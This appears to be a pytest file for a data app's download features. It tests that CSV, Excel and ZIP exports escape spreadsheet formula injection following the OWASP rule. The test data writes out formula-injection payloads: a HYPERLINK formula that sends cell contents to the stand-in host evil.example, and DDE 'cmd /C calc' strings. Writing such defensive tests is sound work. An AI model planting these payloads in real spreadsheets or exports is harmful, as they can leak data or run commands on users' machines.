"""Downloads whose cells cannot become formulas (issue 17.5): the OWASP rule on text, numbers kept as numbers."""
from __future__ import annotations

import io
import zipfile

import numpy as np
import pandas as pd
import pytest

from lib.ui.cells import FORMULA_START, safe_cells, safe_text

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]
# Not formulas themselves, but a bare line break would start a new CSV row with "=..." as its first cell.
BROKEN_LINES = ["ok\r=1+1", "ok\n=1+1", "ok\r\n@SUM(A1)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["ByteDance", "北京", "3.5", "-12.5", "+3e6", "", "a=b", "(−) minus sign", "'quoted"])
def test_other_text_and_plain_numbers_stay(text):
    assert safe_text(text) == text


def test_numbers_stay_numbers_and_text_columns_are_neutralised():
    frame = pd.DataFrame({
        "company": ["=HYPERLINK(\"http://x\")", "ByteDance", None],
        "value": [-3.5, 1e9, np.nan], "count": pd.array([-1, 2, None], dtype="Int64"),
        "flag": [True, False, True], "when": pd.to_datetime(["2024-01-01", "2024-02-01", None]),
        "mixed": ["@x", 5, -7.0], "kind": pd.Categorical(["-x", "y", "-x"]),
        "=bad header": ["a", "b", "c"],
    })
    safe = safe_cells(frame)
    assert safe["company"].tolist()[:2] == ["'=HYPERLINK(\"http://x\")", "ByteDance"] and pd.isna(safe["company"][2])
    pd.testing.assert_series_equal(safe["value"], frame["value"])
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    pd.testing.assert_series_equal(safe["flag"], frame["flag"])
    pd.testing.assert_series_equal(safe["when"], frame["when"])
    assert safe["mixed"].tolist() == ["'@x", 5, -7.0]
    assert safe["kind"].tolist() == ["'-x", "y", "'-x"]
    assert list(safe.columns)[-1] == "'=bad header"
    assert frame["company"][0].startswith("="), "the caller's frame is not changed"


def _csv_cells(data: bytes) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def hostile_frame() -> pd.DataFrame:
    texts = HOSTILE + BROKEN_LINES
    return pd.DataFrame({"company": texts, "value": np.arange(len(texts), dtype=float) - 2})


def assert_no_formula_in_csv(data: bytes) -> None:
    for cell in _csv_cells(data):
        assert not cell.startswith(FORMULA_START) or cell.lstrip("+-").replace(".", "", 1).isdigit(), cell


def assert_no_formula_in_xlsx(data: bytes) -> None:
    """No cell of any sheet holds a formula (<f>), and every hostile text is stored as inert text."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
        strings = book.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in book.namelist() else ""
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings


# --- every writer of a download applies it (hostile text as a data file could bring it; numbers stay numbers) ---

def test_chart_csv_of_every_page_is_safe():
    from lib.ui import downloads

    data = downloads.csv_bytes(hostile_frame(), "=cmd|' /C calc'!A0", "en")
    assert_no_formula_in_csv(data)
    cells = _csv_cells(data)
    assert all(text in cells for text in BROKEN_LINES), "a line break stays inside its cell"
    assert "'=HYPERLINK" in data.decode("utf-8-sig") and ",-2.0," in data.decode("utf-8-sig"), "numbers stay numbers"


def test_four_chains_gap_list_csv_is_safe(db):
    from lib.ui import chain_figures

    gaps = db.execute("SELECT g.*, d.doc_id, d.title_zh, d.title_en FROM chain_gaps g JOIN documents d "
                      "USING (file_name) LIMIT 3").df()
    for column in ("line_end", "section"):
        if column not in gaps:
            gaps[column] = None
    gaps.loc[0, "quote"] = HOSTILE[0]
    gaps.loc[1, "summary_en"] = "@SUM(A1:A9)"
    data = chain_figures.gap_csv(gaps, "en")
    assert_no_formula_in_csv(data)
    assert "'@SUM(A1:A9)" in data.decode("utf-8-sig")


def test_explorer_excel_holds_no_formula():
    from lib.ui import downloads

    assert_no_formula_in_xlsx(downloads.excel_bytes(hostile_frame(), "figures"))


def test_warehouse_zip_csvs_are_safe(tmp_path, monkeypatch):
    """A unicorn list whose company name is a formula, built into a warehouse, downloaded as the warehouse ZIP."""
    import shutil

    import streamlit

    from lib.paths import EXTERNAL_DIR
    from lib.queries import sources
    from lib.ui import downloads
    from lib.warehouse import build

    external = tmp_path / "external"
    shutil.copytree(EXTERNAL_DIR, external)
    path = external / "unicorns" / "cbinsights_unicorns_2024-09.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[1] = lines[1].replace("ByteDance", '"=HYPERLINK(""http://evil.example"",""ByteDance"")"', 1)
    path.write_text("".join(lines), encoding="utf-8")
    build.build(tmp_path / "w.duckdb", external_dir=external)
    monkeypatch.setenv("INDICATORS_DB", str(tmp_path / "w.duckdb"))
    streamlit.cache_data.clear()
    with zipfile.ZipFile(io.BytesIO(downloads.zip_of_csvs(sources.warehouse_frames(), "readme"))) as zf:
        unicorns = zf.read("unicorns.csv")
        for name in zf.namelist():
            if name.endswith(".csv"):
                assert_no_formula_in_csv(zf.read(name))
    assert b"'=HYPERLINK" in unicorns
    streamlit.cache_data.clear()
